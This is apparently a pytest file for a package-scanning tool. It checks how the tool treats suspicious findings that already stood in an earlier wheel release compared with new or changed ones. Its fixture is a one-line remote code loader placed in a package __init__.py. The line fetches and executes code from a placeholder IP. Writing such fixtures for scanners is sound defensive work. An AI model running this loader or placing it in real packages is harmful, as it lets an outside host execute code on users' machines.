"""Findings that stood in an old release are shown and not queued."""

from __future__ import annotations

import pytest

from pratique.compare import Context
from pratique.pipeline import Options, describe, read_artifact

HARM = b"import urllib.request\nexec(urllib.request.urlopen('http://203.0.113.7/x').read())\n"
OPTIONS = Options(audience="everything")


def _read(files, context=None):
    import io
    import zipfile

    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for path, data in files.items():
            archive.writestr(zipfile.ZipInfo(path), data)
    data = packed.getvalue()
    return read_artifact(describe("acme-1.0-py3-none-any.whl", data), data, OPTIONS, None, context, draw=True)


def _beside(before, after, stood):
    return _read(after, Context(base=_read(before).portrait, stood=stood)).review


def test_what_stood_keeps_its_level_and_is_no_news():
    found = _beside({"acme/__init__.py": HARM}, {"acme/__init__.py": HARM, "acme/a.py": b"X = 1\n"}, 91)

    assert found.verdict.level in {"look", "block"}
    assert found.queued in {"clear", "note"}
    assert {one.standing for one in found.findings if one.capabilities} == {True}


@pytest.mark.parametrize(
    ("before", "after", "stood"),
    [
        ({"acme/__init__.py": HARM}, {"acme/__init__.py": HARM}, 90),
        ({"acme/__init__.py": HARM}, {"acme/__init__.py": HARM.replace(b"/x", b"/y")}, 400),
        ({"acme/__init__.py": b""}, {"acme/__init__.py": HARM}, 400),
        (
            {"acme/__init__.py": b"def go():\n    " + HARM.replace(b"\n", b"\n    ")},
            {"acme/__init__.py": b"def go():\n    " + HARM.replace(b"\n", b"\n    ") + b"\ngo()\n"},
            400,
        ),
    ],
    ids=["too young", "another literal", "new", "runs earlier"],
)
def test_what_is_young_other_new_or_earlier_is_news(before, after, stood):
    found = _beside(before, after, stood)

    assert found.queued == found.verdict.level
    assert found.verdict.level in {"look", "block"}
